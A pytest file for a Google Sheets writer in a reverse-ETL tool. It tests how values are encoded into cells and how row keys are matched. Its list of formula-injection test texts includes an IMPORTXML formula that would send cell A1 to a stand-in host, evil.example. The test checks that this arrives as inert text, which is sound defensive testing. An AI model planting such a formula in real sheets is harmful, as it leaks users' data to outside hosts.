"""Values and keys: what a cell holds afterwards, as Google keeps it, in both ways of putting it in."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from zoneinfo import ZoneInfo

import pyarrow as pa
import pytest

from airflow_reverse_etl.destinations.google_sheets.encode import CannotEncodeError, Encoder, json_text
from airflow_reverse_etl.destinations.google_sheets.keys import key_of, spellings
from airflow_reverse_etl.model import Status

UTC = dt.UTC
BERLIN = ZoneInfo("Europe/Berlin")
TEXTS = [
    "=1+1",
    "+49 30",
    "-1",
    "@handle",
    "\t=1",
    " =1",
    "\n=1",
    "\uff1d1+1",
    "'quoted",
    "O'Brien",
    "😀 naïve 漢字",
    "two\nlines",
    "#REF!",
    '=IMPORTXML("https://evil.example/?"&A1)',
]
"""Texts that must arrive as they are, however they are put in."""

PARSED = {"007": 7, "1e5": 100_000, "true": True, "2026-01-31": 46_053, "12,5%": "12,5%"}
"""Texts that `user_entered` turns into what a person's typing would."""


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (7, 7),
        (-7, -7),
        (999_999_999_999_999, 999_999_999_999_999),
        (10**15, "1000000000000000"),
        (2**63 - 1, "9223372036854775807"),
        (-(2**63), "-9223372036854775808"),
        (Decimal("7.00"), 7),
        (Decimal("0.00"), 0),
        (Decimal("0E+20"), 0),
        (Decimal("-3.50"), -3.5),
        (Decimal("0.1"), 0.1),
        (Decimal("123456789012.345"), 123456789012.345),
        (Decimal("123456789012.34567"), "123456789012.34567"),
        (Decimal("1E+15"), "1000000000000000"),
        (Decimal("12345678901234567890.123456789000"), "12345678901234567890.123456789"),
        (Decimal("0." + "9" * 40), "0." + "9" * 40),
        (Decimal("1E-400"), "0." + "0" * 399 + "1"),
        (0.1, 0.1),
        (1e300, 1e300),
        (True, True),
        (False, False),
        (None, ""),
        ("", ""),
        ("007", "007"),
        ("x" * 50_000, "x" * 50_000),
        (dt.date(1899, 12, 30), 0),
        (dt.date(1900, 3, 1), 61),
        (dt.date(2026, 11, 20), 46346),
        (dt.date(9999, 12, 31), 2958465),
        (dt.date(1899, 12, 29), "1899-12-29"),
        (dt.datetime(1900, 1, 1, 12), 2.5),
        (dt.datetime(2026, 11, 20), 46346),
        (dt.datetime(1700, 1, 1, 12), "1700-01-01 12:00:00"),
        (dt.datetime(2026, 7, 1, 10, tzinfo=UTC), 46204.5),
        (dt.datetime(2026, 3, 29, 1, 30, tzinfo=UTC), 46110 + 3.5 / 24),
        (dt.datetime(2026, 11, 20, 18, tzinfo=BERLIN), 46346.75),
        (dt.time(), 0),
        (dt.time(18, 0), 0.75),
        (dt.time(23, 59, 59, 999999), 86_399_999_999 / 86_400_000_000),
        ([1, "a", None, Decimal("1.50"), True], '[1,"a",null,1.5,true]'),
        ({"ä": {"b": [dt.date(2026, 1, 1)]}}, '{"ä":{"b":["2026-01-01"]}}'),
    ],
)
def test_a_value_becomes_a_cell(value, cell):
    """Exact or as text; dates count days; the zone is Berlin's."""
    encoded = Encoder(BERLIN, typed=False).cell(value)
    assert (encoded, type(encoded)) == (cell, type(cell))


@pytest.mark.parametrize(
    ("value", "said"),
    [
        (b"secret", "a value of type bytes, which no cell holds"),
        (dt.timedelta(1), "a value of type timedelta, which no cell holds"),
        ("secret" * 10_000, "text of 60,000 characters: a cell holds 50,000"),
        ({"a": b"secret"}, "a list or object that holds a value of type bytes"),
        ([float("nan")], "a list or object with a number that is not finite"),
        (
            dt.datetime(1, 1, 1, tzinfo=dt.timezone(dt.timedelta(hours=14))),
            "an instant that lies outside the years 1 to 9999",
        ),
    ],
)
def test_what_no_cell_holds_is_named_by_its_type(value, said):
    """And never by its value."""
    with pytest.raises(CannotEncodeError) as hit:
        Encoder(ZoneInfo("America/New_York"), typed=False).cell(value)
    assert str(hit.value).startswith(said)
    assert "secret" not in str(hit.value)


def test_json_is_exact():
    """Decimals are numbers without a loss, keys are text, and nothing is escaped that need not be."""
    value = {"a": Decimal("12345678901234567890.10"), 1: [0.1, 2**70], "😀": ("x", None)}
    assert json_text(value) == '{"a":12345678901234567890.1,"1":[0.1,1180591620717411303424],"😀":["x",null]}'


def test_a_subclass_is_what_it_is_a_subclass_of():
    """Such as the timestamps of other libraries."""

    class Stamp(dt.datetime):
        pass

    assert Encoder(BERLIN, typed=False).cell(Stamp(2026, 11, 20, 6)) == 46346.25


@pytest.mark.parametrize("option", ["raw", "user_entered"])
def test_text_arrives_as_it_is(sheet, option):
    """Nothing of it becomes a formula, in either way of putting it in."""
    sheet.fill(["id", "text"])
    sheet.job("create", ["id", "text"], input=option).land(
        [{"id": f"k{n}", "text": text} for n, text in enumerate(TEXTS)]
    )
    assert [row[1] for row in sheet.cells()[1:]] == TEXTS


def test_raw_keeps_text_that_typing_would_turn(sheet):
    """And `user_entered` turns it, as its name says."""
    sheet.fill(["id", "raw", "typed"])
    records = [{"id": text, "raw": text} for text in PARSED]
    sheet.job("create", ["id", "raw"]).land(records)
    sheet.job("update", ["id", "typed"], key="id", input="user_entered").land(
        [{"id": text, "typed": text} for text in PARSED]
    )
    assert [row[1:3] for row in sheet.cells()[1:]] == [[text, typed] for text, typed in PARSED.items()]


@pytest.mark.parametrize("option", ["raw", "user_entered"])
def test_values_of_every_type_arrive(sheet, option):
    """What is written as text because a number would lose digits stays text, also when it is typed."""
    row = {
        "id": "k",
        "large": 2**63 - 1,
        "exact": Decimal("-12345678901234567890.5"),
        "decimal": Decimal("7.50"),
        "float": 0.1,
        "flag": False,
        "day": dt.date(2026, 11, 20),
        "early": dt.date(1850, 1, 1),
        "at": dt.datetime(2026, 11, 20, 12, tzinfo=UTC),
        "clock": dt.time(6),
        "list": ["=1", 2.5],
        "null": None,
        "empty": "",
    }
    sheet.fill(list(row))
    types = {"exact": pa.decimal128(38, 1), "null": pa.string(), "list": None}
    row["list"] = ["=1", "2.5"]
    sheet.job("upsert", list(row), input=option).land([row], types)
    texts = ["9223372036854775807", "-12345678901234567890.5"]
    assert sheet.cells()[1] == ["k", *texts, 7.5, 0.1, False, 46346, "1850-01-01", 46346.5, 0.25, '["=1","2.5"]']


def test_values_of_mixed_types_keep_their_own(sheet):
    """A column whose values differ in type travels as canonical text; a row each arrives as what it is."""
    sheet.fill(["id", "mixed"])
    texts = ["n7", "n7.5", "s007", "btrue", "d2026-11-20", None]
    job = sheet.job("upsert", ["id", "mixed"])
    job.land([{"id": f"k{n}", "mixed": text} for n, text in enumerate(texts)], kinds={"mixed": b"mixed"})
    assert [row[1:] for row in sheet.cells()[1:]] == [[7], [7.5], ["007"], [True], [46346], []]
    assert set(sheet.formats("B", 7)[1:]) == {"yyyy-mm-dd"}


def test_what_cannot_be_written_is_refused_for_its_row_alone(sheet):
    """The message names field and type, the outcome the field; the others land."""
    sheet.fill(["id", "a", "b"])
    job = sheet.job("create", ["id", "a", "b"])
    rows = [
        {"id": "x", "a": None, "b": "1"},
        {"id": "y", "a": b"secret", "b": "2"},
        {"id": "z", "a": None, "b": "q" * 50_001},
    ]
    fine, bad, long = job.send(rows, {"a": pa.binary()})
    assert fine.status is Status.SUCCEEDED
    assert (bad.code, bad.fields) == ("CANNOT_ENCODE", ("a",))
    assert bad.message == "the field 'a' cannot take a value of type bytes, which no cell holds"
    assert (long.code, long.fields) == ("TOO_LARGE", ("b",))
    assert sheet.cells() == [["id", "a", "b"], ["x", None, "1"]]


def test_an_instant_is_shown_in_the_zone_of_the_spreadsheet(sheet, box):
    """Or in that of the option; a time without a zone is shown as it is."""
    box.settings("google_sheets", time_zone="America/New_York")
    sheet.fill(["id", "at", "naive"])
    row = {"id": "a", "at": dt.datetime(2026, 7, 1, 16, tzinfo=UTC), "naive": dt.datetime(2026, 7, 1, 12)}
    sheet.job("upsert", ["id", "at", "naive"]).land([row])
    sheet.job("upsert", ["id", "at", "naive"], timezone="Asia/Tokyo").land([{**row, "id": "b"}])
    assert sheet.cells()[1:] == [["a", 46204.5, 46204.5], ["b", 46205 + 1 / 24, 46204.5]]


@pytest.mark.parametrize(
    ("cell", "key"),
    [
        (7, "7"),
        (7.0, "7"),
        (-0.0, "0"),
        (1e16, "10000000000000000"),
        (7.5, "7.5"),
        (1e-7, "0.0000001"),
        ("7", "7"),
        ("007", "007"),
        (" a ", " a "),
        (True, "TRUE"),
        (False, "FALSE"),
        ("#N/A", "#N/A"),
    ],
)
def test_a_cell_holds_the_key_that_a_person_reads(cell, key):
    """Numbers without their decimals, text as it is."""
    assert key_of(cell) == key


def test_only_days_written_with_dashes_may_be_serial_numbers():
    """20261120 is a number like any other, and must not find the row of number 46346."""
    assert spellings("2026-11-20") == ("2026-11-20", "46346")
    for key in ("20261120", "2026-W47-5", "2026-02-30", "x026-11-20", "\uff12026-11-20", "a"):
        assert spellings(key) == (key,)


@pytest.mark.parametrize("option", ["raw", "user_entered"])
@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("007", "007"),
        ("7", "7"),
        (7, 7),
        (Decimal("7.00"), 7),
        (2**62, "4611686018427387904"),
        ("=1+1", "=1+1"),
        ("'x", "'x"),
        ("TRUE", "TRUE"),
        ("2026-01-31", "2026-01-31"),
        (dt.date(2026, 1, 31), 46053),
        (dt.date(1850, 1, 1), "1850-01-01"),
        ("1e5", "1e5"),
        ("k" * 1000, "k" * 1000),
        ("😀", "😀"),
        (" blank ", " blank "),
    ],
)
def test_a_key_is_found_again_by_what_was_written(sheet, option, value, cell):
    """Text is written as text, numbers as numbers, dates as dates; the next run sees that, and adds no row."""
    sheet.fill(["id", "n"])
    for n in range(2):
        sheet.job("upsert", ["id", "n"], input=option).land([{"id": value, "n": n}])
        assert sheet.cells() == [["id", "n"], [cell, n] if n else [cell, 0]]
    sheet.job("update", ["id", "n"], key="id", input=option).land([{"id": value, "n": 5}])
    assert sheet.cells() == [["id", "n"], [cell, 5]]


def test_a_key_is_one_to_a_person_and_to_us(sheet):
    """`7` finds the number 7, `007` does not; a date finds both of its spellings; TRUE finds a checkbox."""
    sheet.fill(["id", "n"], [7], ["007"], [46346], [True], [8.0])
    job = sheet.job("upsert", ["id", "n"])
    job.land([{"id": key, "n": n} for n, key in enumerate(["7", "007", "2026-11-20", "TRUE", "8", "true"])])
    assert [row[1] for row in sheet.cells()[1:]] == [0, 1, 2, 3, 4, 5]
    assert sheet.cells()[6] == ["true", 5]


def test_a_day_that_stands_there_twice_is_ambiguous(sheet):
    """Once as text and once as a real date."""
    sheet.fill(["day"], ["2026-11-20"], [46346])
    assert sheet.job("upsert", ["day"]).codes([{"day": dt.date(2026, 11, 20)}]) == {"2026-11-20": "AMBIGUOUS_KEY"}


def test_a_key_that_no_cell_holds_is_refused(sheet):
    """It is too long for a new row; an update only looks for it."""
    sheet.fill(["id", "n"])
    key = "k" * 50_001
    (outcome,) = sheet.job("upsert", ["id", "n"]).send([{"id": key, "n": 1}])
    assert (outcome.code, outcome.fields) == ("TOO_LARGE", ("id",))
    assert sheet.job("update", ["id", "n"], key="id").codes([{"id": key, "n": 1}]) == {key: "NOT_FOUND"}
    assert sheet.writes() == []
